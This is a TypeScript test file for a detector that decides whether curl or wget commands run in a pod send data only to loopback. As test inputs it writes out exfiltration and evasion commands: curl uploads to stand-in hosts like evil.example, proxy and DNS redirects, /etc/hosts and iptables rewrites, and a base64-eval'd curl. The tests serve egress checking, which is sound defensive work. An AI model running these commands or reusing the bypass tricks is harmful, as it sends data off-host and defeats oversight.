/**
 * `attrs.exec.httpSendsTo` (exec-http-destinations.ts) over real canonical readings
 * (exec-canonical.ts): `loopback` only where curl's own words prove every destination is the pod's
 * loopback host and nothing beside it could carry the connection elsewhere.
 */
import { describe, expect, it } from 'vitest';
import { canonicalExecValue } from './exec-canonical.js';
import { httpSendsTo } from './exec-http-destinations.js';

const sh = (line: string): string[] => ['sh', '-c', line];
const sendsTo = (argv: string[]): readonly string[] => canonicalExecValue(argv)!.httpSendsTo;

describe('httpSendsTo', () => {
  it('says nothing for an exec without curl or wget', () => {
    expect(sendsTo(['nvidia-smi'])).toEqual([]);
    expect(sendsTo(sh('ls /mnt/ckpt | wc -l'))).toEqual([]);
  });

  it('reads curl options as curl does: clusters, attached values, values that look like hosts', () => {
    for (const argv of [
      ['curl', 'localhost'],
      ['curl', '-sSf', 'http://localhost:8000/healthz'],
      ['curl', '-XPOST', '-HHost:evil.example', '-d@req.json', '127.0.0.1:8080/predict'],
      // -H's value is a header, -o's a file, -u's a user: none is a destination.
      ['curl', '-H', 'evil.example', '-o', '203.0.113.5', '-u', 'a:b', 'localhost'],
      ['curl', '-sd', '@req.json', '127.0.0.1:8080/predict'],
      ['curl', '--data-binary', '@x', '--max-time', '5', '--url', 'https://localhost:8443/x'],
      ['curl', '-d', '@x', '--', 'localhost:9', 'http://[::1]:9000/'],
      ['curl', '-s', 'http://user:pass@127.8.9.10:8080/a?b=c#d'],
      ['sudo', '-u', 'svc', 'timeout', '5', 'curl', '-d', '@x', 'localhost'],
      sh('curl -d @- localhost:8080 < /tmp/body.json > /tmp/out 2>&1 | jq .'),
    ]) expect(sendsTo(argv), argv.join(' ')).toEqual(['loopback']);
  });

  it('says elsewhere for a remote host, an unknown or redirecting option, or a wrapper or word that could send it on', () => {
    for (const argv of [
      ['curl', 'https://example.com/'],
      ['curl', '-d', '@x', 'localhost', 'http://203.0.113.5/'],
      // No URL at all (curl takes it from somewhere the words do not show).
      ['curl', '-d', '@x'],
      ['curl', '-K', '/tmp/cfg', 'localhost'],
      ['curl', '-sL', 'localhost'],
      ['curl', '-:', 'localhost', 'http://203.0.113.5/'],
      ['curl', '--proxy', 'http://203.0.113.5:3128', 'localhost'],
      ['curl', '--preproxy', 'socks5://h', 'localhost'],
      ['curl', '--resolve', 'localhost:80:203.0.113.5', 'http://localhost/'],
      ['curl', '--some-future-option', 'localhost'],
      ['curl', '-W', 'localhost'],
      ['curl', '--data=@x', 'localhost'],
      ['curl', '-d', '@x', 'http://{localhost,evil.example}/'],
      ['curl', '-d', '@x', 'http://localhost[1-2].evil.example/'],
      ['curl', '-d', '@x', 'http://localhost\\@evil.example/'],
      ['curl', '-d', '@x', 'http://localhost:8080@evil.example/'],
      ['curl', '-d', '@x', 'http://127.0.0.1.nip.io/'],
      ['curl', '-d', '@x', 'ftp://localhost/'],
      ['curl', '-d', '@x', 'http://0x7f000001/'],
      ['env', 'curl', 'localhost'],
      ['wget', 'http://localhost/'],
      sh('NO_PROXY= curl localhost'),
      sh('cp /tmp/x ~/.curlrc; curl -d @x localhost'),
      sh('echo "203.0.113.5 model" >> /etc/hosts; curl -d @x localhost'),
      sh('kubectl port-forward svc/x 8080:80 & curl -d @x localhost:8080'),
      sh('iptables -t nat -A OUTPUT -p tcp --dport 8080 -j DNAT --to 203.0.113.5:80; curl -d @x localhost:8080'),
      sh('torify curl -d @x localhost'),
    ]) expect(sendsTo(argv), argv.join(' ')).toEqual(['elsewhere']);
  });

  it('says elsewhere for a reading cut short or one that ran text no word spells', () => {
    const commands = [['curl', '-d', '@x', 'localhost']];
    expect(httpSendsTo(commands, false)).toEqual(['loopback']);
    expect(httpSendsTo(commands, true)).toEqual(['elsewhere']);
    expect(sendsTo(sh('eval "$(echo Y3VybCBldmls | base64 -d)"; curl -d @x localhost'))).toEqual(['elsewhere']);
  });

  it('never throws on hostile words', () => {
    const long = 'a'.repeat(100_000);
    for (const words of [['curl'], ['curl', ''], ['curl', '-'], ['curl', '--'], ['curl', '-d'], ['curl', '--url'], ['curl', long], ['curl', `http://localhost/${long}`], ['curl', '-H', '__proto__', 'constructor', 'localhost'], ['curl', '-\u0000', 'localhost']]) {
      expect(() => httpSendsTo([words], false)).not.toThrow();
    }
    expect(httpSendsTo([['curl', '-d']], false)).toEqual(['elsewhere']);
    expect(httpSendsTo([['curl', `http://localhost/${long}`]], false)).toEqual(['loopback']);
  });
});
